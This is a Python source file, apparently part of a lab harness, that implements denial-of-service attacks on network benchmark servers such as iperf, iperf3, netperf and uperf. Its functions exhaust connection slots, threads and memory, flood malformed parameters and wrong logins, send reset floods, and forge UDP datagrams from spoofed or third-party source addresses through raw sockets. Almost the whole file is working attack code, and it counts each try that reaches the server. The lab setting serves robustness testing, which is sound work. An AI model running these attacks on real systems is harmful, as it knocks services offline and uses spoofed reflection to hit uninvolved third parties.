"""The attacks of lab/attack. Each function is one attack. It runs in a process of its own on the attacker's
host until the end of the attack, and counts what it tried, and what shows that the server's code was reached."""

import base64
import contextlib
import itertools
import json
import os
import random
import select
import socket
import struct
import subprocess
import threading
import time

from attack_hosts import address

PORTS = {"netserver": 12865, "uperf": 20000, "iperf": 5001, "iperf3": 5201, "udpmon": 14233}
CONNECT_SECONDS = 5
RESET = struct.pack("ii", 1, 0)

# Attacks: name -> (function, servers). `serve` has all attacks except those on iperf3-auth only.
ATTACKS = {}


def attack_on(*servers):
    """Registers a function as an attack on these servers."""

    def register(function):
        ATTACKS[function.__name__] = (function, servers)
        return function

    return register


class Context:
    """What the attacks share: the server's dialects, the end, the programs, messages and counters."""

    def __init__(self, server, program, directory, packets_per_second, counters):
        self.server, self.program, self.directory = server, program, directory
        self.packets_per_second, self.counters = packets_per_second, counters
        self.end = 0.0
        self.slot = 0
        self.messages = recorded_messages(program, directory)

    def is_running(self):
        return time.monotonic() < self.end

    def tried(self, count=1):
        self.counters.add(self.slot, 0, count)

    def reached(self, count=1):
        self.counters.add(self.slot, 1, count)

    def tcp_ports(self):
        """Returns the server's TCP ports."""
        dialect = self.server.removesuffix("-auth")
        return [port for name, port in PORTS.items() if name != "udpmon" and dialect in ("serve", name)]

    def udp_ports(self):
        """Returns the server's UDP ports."""
        dialects = {"serve": ("iperf", "udpmon"), "iperf-udp": ("iperf",), "udpmon": ("udpmon",)}
        return [PORTS[name] for name in dialects.get(self.server, ())]


class Counters:
    """Two numbers per attack in shared memory: tries, and tries that reached the server's code."""

    def __init__(self, memory):
        self.memory, self.lock = memory, threading.Lock()

    def add(self, slot, index, count):
        offset = 16 * slot + 8 * index
        with self.lock:
            struct.pack_into("Q", self.memory, offset, self.get(slot, index) + count)

    def get(self, slot, index):
        return struct.unpack_from("Q", self.memory, 16 * slot + 8 * index)[0]


def attacks_on(server):
    """Returns the names of the attacks on a server."""
    return [name for name, (_, servers) in ATTACKS.items()
            if server in servers or (server == "serve" and servers != ("iperf3-auth",))]


# ---------------------------------------------------------------------------------------------
# First messages of real clients


def recorded_messages(program, directory):
    """Returns the first bytes of clients, as they send them to a server that does not answer."""
    uperf_profile = directory / "attack.xml"
    uperf_profile.write_text(profile("127.0.0.1", "tcp", 1, "600s", "1ms"))
    udp = {"iperf -u", "iperf -u -R", "iperf -u -d", "iperf -u --full-duplex", "zerostats"}
    lines = {
        "netperf": "netperf -H 127.0.0.1 -p {port} -t TCP_RR -l 600",
        "maerts": "netperf -H 127.0.0.1 -p {port} -t TCP_MAERTS -l 600",
        "omni": "netperf -H 127.0.0.1 -p {port} -t omni -l 600 -- -d send -T udp",
        "uperf": f"{program} uperf -m {uperf_profile} -P {{port}}",
        "iperf": "iperf -c 127.0.0.1 -p {port} -t 600",
        "iperf -R": "iperf -c 127.0.0.1 -p {port} -R -l 16M -t 600",
        "iperf --full-duplex": "iperf -c 127.0.0.1 -p {port} --full-duplex -l 16M -t 600",
        "iperf --bounceback": "iperf -c 127.0.0.1 -p {port} --bounceback -t 600",
        "iperf -u": "iperf -c 127.0.0.1 -p {port} -u -t 600",
        "iperf -u -R": "iperf -c 127.0.0.1 -p {port} -u -R -t 600",
        "iperf -u -d": "iperf -c 127.0.0.1 -p {port} -u -d -L 9999 -t 600",
        "iperf -u --full-duplex": "iperf -c 127.0.0.1 -p {port} -u --full-duplex -t 600",
        "zerostats": f"{program} udpmon_bw_mon -d 127.0.0.1 -u {{port}} -p 1400 -l 1000",
    }
    return {name: first_message(line, name in udp) for name, line in lines.items()}


def first_message(line, is_datagram):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if is_datagram else socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(10)
        if not is_datagram:
            listener.listen()
        words = line.format(port=listener.getsockname()[1]).split()
        client = subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            if is_datagram:
                return listener.recv(65536)
            connection, _ = listener.accept()
            with connection:
                connection.settimeout(10)
                return connection.recv(4096)
        finally:
            client.kill()
            client.wait()


def profile(server, protocol, threads, duration, think):
    """Returns a profile of uperf with small requests and responses."""
    return f"""<?xml version="1.0"?>
<profile name="test"><group nthreads="{threads}">
<transaction iterations="1"><flowop type="connect" options="remotehost={server} protocol={protocol}"/></transaction>
<transaction duration="{duration}">
<flowop type="write" options="size=100"/><flowop type="read" options="size=100"/>
<flowop type="think" options="duration={think}"/></transaction>
<transaction iterations="1"><flowop type="disconnect"/></transaction></group></profile>
"""


# ---------------------------------------------------------------------------------------------
# Common parts


def hold(context, ports, message, count, seconds):
    """Keeps `count` connections open, which send a message and read nothing, each for up to `seconds`.

    A connection reached the server if it lasts 1 s, or if the server answers or closes it.
    """
    poller, connections = select.poll(), {}
    while context.is_running():
        for _ in range(min(100, count - len(connections))):
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex((address("server"), random.choice(ports)))
            connections[connection.fileno()] = (connection, time.monotonic())
            poller.register(connection, select.POLLOUT)
        for descriptor, event in poller.poll(100):
            connection, _ = connections[descriptor]
            if event & (select.POLLERR | select.POLLHUP | select.POLLRDHUP):
                context.reached(1 if event & select.POLLRDHUP else 0)
                connections.pop(descriptor)
                poller.unregister(descriptor)
                connection.close()
            elif event & select.POLLOUT:
                context.tried()
                with contextlib.suppress(OSError):
                    connection.send(message())
                poller.modify(descriptor, select.POLLRDHUP)
        now = time.monotonic()
        for descriptor, (connection, started) in list(connections.items()):
            if now > started + seconds * random.uniform(0.5, 1):
                context.reached(1 if seconds > 1 else has_answer(connection))
                connections.pop(descriptor)
                poller.unregister(descriptor)
                connection.close()
        time.sleep(0.1)
    for connection, _ in connections.values():
        context.reached()
        connection.close()


def has_answer(connection):
    try:
        return int(len(connection.recv(1)) > 0)
    except OSError:
        return 0


def in_threads(context, function, count):
    """Calls a function again and again in `count` threads."""

    def work():
        while context.is_running():
            context.tried()
            try:
                function(context)
            except OSError:
                time.sleep(0.1)

    threads = [threading.Thread(target=work) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def repeat(context, lines, copies, **environment):
    """Runs clients again and again, `copies` at a time. A client reached the server if it succeeds."""
    clients, lines = [], itertools.cycle(lines)
    while context.is_running():
        for client in [client for client in clients if client.poll() is not None]:
            context.reached(int(client.returncode == 0))
            clients.remove(client)
        while len(clients) < copies:
            context.tried()
            clients.append(
                subprocess.Popen(
                    next(lines).split(),
                    stdin=subprocess.DEVNULL,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                    env={**os.environ, **environment},
                )
            )
        time.sleep(0.05)
    for client in clients:
        client.kill()
        client.wait()


def connect(port):
    return socket.create_connection((address("server"), port), CONNECT_SECONDS)


# ---------------------------------------------------------------------------------------------
# iperf3


class Iperf3Test:
    """A test of iperf3."""

    def __init__(self):
        self.sockets = []

    def begin(self, streams, **parameters):
        """Brings the test to its running state."""
        self.control = self.open()
        letters = "abcdefghijklmnopqrstuvwxyz234567"
        cookie = "".join(random.choices(letters, k=36)).encode() + b"\0"
        self.control.sendall(cookie)
        self.expect(9)
        text = json.dumps({"tcp": True, "omit": 0, "num": 0, "blockcount": 0, "pacing_timer": 1000,
                           "client_version": "3.12", **parameters}).encode()
        self.control.sendall(struct.pack("!I", len(text)) + text)
        self.expect(10)
        self.open_streams(streams, cookie)
        self.expect(1)
        self.expect(2)

    def open(self):
        self.sockets.append(connect(PORTS["iperf3"]))
        return self.sockets[-1]

    def open_streams(self, count, cookie):
        """Opens all streams at once."""
        streams, poller = [socket.socket() for _ in range(count)], select.poll()
        self.sockets += streams
        by_descriptor = {stream.fileno(): stream for stream in streams}
        for stream in streams:
            stream.setblocking(False)
            stream.connect_ex((address("server"), PORTS["iperf3"]))
            poller.register(stream, select.POLLOUT)
        deadline = time.monotonic() + 4 * CONNECT_SECONDS
        while by_descriptor:
            if time.monotonic() > deadline:
                raise OSError("streams do not connect")
            for descriptor, _ in poller.poll(1000):
                poller.unregister(descriptor)
                by_descriptor.pop(descriptor).sendall(cookie)

    def expect(self, state):
        self.control.settimeout(20)
        if self.control.recv(1) != bytes([state]):
            raise OSError("other state")

    def move_data(self, seconds):
        """Reads, and writes a little, on all streams."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for stream in self.sockets[1:]:
                with contextlib.suppress(BlockingIOError):
                    stream.send(bytes(1024))
                with contextlib.suppress(BlockingIOError):
                    stream.recv(65536)
            time.sleep(0.1)

    def close(self):
        for connection in self.sockets:
            connection.close()


@contextlib.contextmanager
def iperf3_test(context, streams, **parameters):
    test = Iperf3Test()
    try:
        test.begin(streams, **parameters)
        context.reached()
        yield test
    finally:
        test.close()


@attack_on("iperf3")
def iperf3_streams(context):
    """Threads: tests of 128 streams per direction."""

    def test(context):
        with iperf3_test(context, 256, parallel=128, bidirectional=True, time=10, len=131072) as running:
            running.move_data(random.uniform(0, 4))
            if random.random() < 0.5:
                running.control.sendall(b"\4")
                running.move_data(0.5)

    in_threads(context, test, 8)


@attack_on("iperf3")
def iperf3_unread(context):
    """Closed windows: reverse tests that read nothing."""

    def test(context):
        with iperf3_test(context, 32, parallel=32, reverse=True, time=60, len=1048576):
            time.sleep(random.uniform(1, 10))

    in_threads(context, test, 4)


@attack_on("iperf3", "iperf3-auth")
def iperf3_silent(context):
    """Slots: connections without parameters."""
    hold(context, [PORTS["iperf3"]], lambda: random.choice((b"a" * 36 + b"\0", b"")), 800, 12)


@attack_on("iperf3")
def iperf3_short(context):
    """Log and rate: short tests."""
    lines = [f"iperf3 -c {address('server')} -n 1K", f"iperf3 -c {address('server')} -u -n 1K"]
    repeat(context, lines, 3)


@attack_on("iperf3", "iperf3-auth")
def iperf3_parameters(context):
    """Log: parameters with wrong lengths, types and values."""
    texts = [b"{", b"[" * 5000, b'{"parallel":1e99}', b'{"tcp":true,"title":"\\u001b[2J' + b"x" * 4000 + b'"}',
             b'{"tcp":true,"parallel":100000}', b'{"udp":true,"len":-1}', b"\0" * 100, b""]

    def message():
        text = random.choice(texts)
        length = random.choice((len(text), 0xFFFFFFFF, 8192))
        return b"b" * 36 + b"\0" + struct.pack("!I", length) + text

    hold(context, [PORTS["iperf3"]], message, 100, 2)


@attack_on("iperf3-auth")
def iperf3_logins(context):
    """CPU time and log: wrong logins."""
    words = ["openssl", "rsa", "-pubin", "-in", context.directory / "public.pem", "-noout", "-modulus"]
    output = subprocess.run(words, check=True, capture_output=True, text=True).stdout
    modulus = int(output.strip().split("=")[1], 16)

    def login(context):
        text = f"user: user\npwd:  wrong{random.random()}\nts:   {int(time.time())}".encode()
        padding = bytes(random.randrange(1, 256) for _ in range(256 - 3 - len(text)))
        block = int.from_bytes(b"\0\2" + padding + b"\0" + text, "big")
        token = base64.b64encode(pow(block, 65537, modulus).to_bytes(256, "big")).decode()
        message = json.dumps({"tcp": True, "time": 1, "parallel": 1, "authtoken": token}).encode()
        with connect(PORTS["iperf3"]) as control:
            control.settimeout(20)
            control.sendall(b"c" * 36 + b"\0" + struct.pack("!I", len(message)) + message)
            while answer := control.recv(64):
                context.reached(int(answer[0] == 9))

    in_threads(context, login, 16)


# ---------------------------------------------------------------------------------------------
# uperf


@attack_on("uperf")
def uperf_strands(context):
    """Threads: masters with thousands of strands."""
    path = context.directory / "strands.xml"
    path.write_text(profile(address("server"), "tcp", 2000, "5s", "500ms"))
    repeat(context, [f"{context.program} uperf -m {path}"], 3)


@attack_on("uperf")
def uperf_silent(context):
    """Slots: masters that stop after one message."""
    message = context.messages["uperf"]
    hold(context, [PORTS["uperf"]], lambda: random.choice((message, message[: len(message) // 2], b"")), 600, 20)


# ---------------------------------------------------------------------------------------------
# iperf 2


@attack_on("iperf")
def iperf_memory(context):
    """Memory and threads: full-duplex and reverse tests with buffers of 16 MB, which read nothing."""
    messages = [context.messages[name] for name in ("iperf --full-duplex", "iperf -R")]
    hold(context, [PORTS["iperf"]], lambda: random.choice(messages), 500, 20)


@attack_on("iperf")
def iperf_bounceback(context):
    """Threads: bounceback tests that stop after one message, some with a long hold time."""
    message = context.messages["iperf --bounceback"]
    held = message[:44] + struct.pack("!I", 0x7FFFFFFF) + message[48:]
    hold(context, [PORTS["iperf"]], lambda: random.choice((message, held)), 500, 20)


@attack_on("iperf")
def iperf_short(context):
    """Log: tests of a few bytes, and dual tests whose client does not listen."""
    plain = context.messages["iperf"]
    dual = struct.pack("!IIIIIi", 0x80000001, 1, 9, 0, 0, -100)
    hold(context, [PORTS["iperf"]], lambda: random.choice((plain, plain[:20], dual)), 50, 0.2)


# ---------------------------------------------------------------------------------------------
# netperf


@attack_on("netserver")
def netperf_silent(context):
    """Slots: half requests, and tests whose data connection does not come."""
    requests = [context.messages[name] for name in ("netperf", "maerts", "omni")]

    def message():
        request = random.choice(requests)
        return request[: random.choice((0, 4, len(request) // 2, len(request), len(request)))]

    hold(context, [PORTS["netserver"]], message, 800, 20)


@attack_on("netserver")
def netperf_tests(context):
    """Slots and ports: tests of one second."""
    server = address("server")
    lines = [f"netperf -H {server} -l 1 -t {kind}" for kind in ("TCP_CRR", "TCP_RR", "UDP_RR", "TCP_MAERTS")]
    repeat(context, [*lines, f"netperf -H {server} -l 1 -t omni -- -d send -m 64"], 8)


# ---------------------------------------------------------------------------------------------
# All dialects


@attack_on("netserver", "uperf", "iperf", "iperf3", "iperf3-auth")
def resets(context):
    """Queue of connections: connections that are reset at once."""
    ports = context.tcp_ports()

    def reset(context):
        connection = connect(random.choice(ports))
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        if random.random() < 0.5:
            connection.send(random.randbytes(40))
        connection.close()
        context.reached()
        time.sleep(0.002)

    in_threads(context, reset, 2)


@attack_on("netserver", "uperf", "iperf", "iperf3", "iperf3-auth")
def malformed(context):
    """Log: random bytes and text with control characters."""
    texts = [b"GET / HTTP/1.1\r\n\r\n", b"\x1b[2J\n" * 100, b"\xff" * 656]
    hold(context, context.tcp_ports(), lambda: random.choice([*texts, random.randbytes(700)]), 100, 1)


# ---------------------------------------------------------------------------------------------
# Forged datagrams


def forge(context, source, payloads):
    """Sends datagrams (dialect, payloads in turn) with forged sources, at the given rate.

    `source` returns an address. One to four datagrams have the same address and port. Counts bytes on the
    Ethernet.
    """
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, started = 0, time.monotonic()
    while context.is_running():
        host, dialect, payload = source(), *random.choice(payloads)
        # The range of ports does not include those of the honest client's flows.
        port = random.randrange(1024, 32768)
        for number in range(1, random.randrange(2, 6)):
            packet = datagram(host, port, PORTS[dialect], payload(number))
            with contextlib.suppress(OSError):
                raw.sendto(packet, (address("server"), 0))
                context.tried()
                context.reached(len(packet) + 14)
            sent += 1
        ahead = sent / context.packets_per_second - (time.monotonic() - started)
        if ahead > 0.005:
            time.sleep(ahead)


def datagram(source, port, destination_port, payload):
    """Returns an IP packet with a UDP datagram without a checksum."""
    addresses = socket.inet_aton(source) + socket.inet_aton(address("server"))
    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, 17, 0) + addresses
    return header + struct.pack("!HHHH", port, destination_port, 8 + len(payload), 0) + payload


def iperf_payloads(context):
    """Returns the functions of the datagrams of iperf 2: number -> payload."""

    def payload(message, size):
        return lambda number: struct.pack("!i", number) + message[4:size]

    names = ("iperf -u", "iperf -u -R", "iperf -u -d", "iperf -u --full-duplex")
    return [("iperf", payload(context.messages[name], size)) for name in names for size in (76, 400)]


def udpmon_payloads(context):
    """Returns requests of UDPmon for many records and long responses."""
    zerostats = context.messages["zerostats"]
    records = zerostats[:32] + struct.pack("<I", 64 << 20) + zerostats[36:]
    response = struct.pack("<IIQQQI", 8, 7, 1, 1, 0, 65000) + bytes(24)
    histogram = struct.pack("<I", 0x10) + bytes(28) + struct.pack("<I", 8064) + bytes(172)
    end = struct.pack("<I", 0x22) + bytes(204)
    return [("udpmon", lambda number, message=message: message)
            for message in (zerostats, records, response, histogram, end)]


def hello_payloads(_):
    return [("iperf3", lambda number, hello=hello: hello) for hello in (b"9876", b"6789", b"\x15\xcd\x5b\x07")]


def random_address():
    return f"{random.randrange(11, 120)}.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}"


@attack_on("iperf-udp")
def forged_iperf(context):
    """Slots: datagrams of iperf 2 from random addresses."""
    forge(context, random_address, iperf_payloads(context))


@attack_on("iperf-udp")
def forged_iperf_client(context):
    """Tests of the client: datagrams of iperf 2 in its name."""
    forge(context, lambda: address("client"), iperf_payloads(context))


@attack_on("iperf3", "iperf3-auth")
def forged_hellos(context):
    """UDP streams: datagrams that open one, from random addresses."""
    forge(context, random_address, hello_payloads(context))


@attack_on("udpmon")
def forged_udpmon(context):
    """The responder's test: requests from random addresses and in the client's name."""
    forge(context, lambda: random.choice((random_address(), address("client"))), udpmon_payloads(context))


@attack_on("iperf-udp", "iperf3", "iperf3-auth", "udpmon")
def forged_third(context):
    """A third party: requests for data in its name."""
    payloads = iperf_payloads(context) + udpmon_payloads(context) + hello_payloads(context)
    forge(context, lambda: address("third"), payloads)
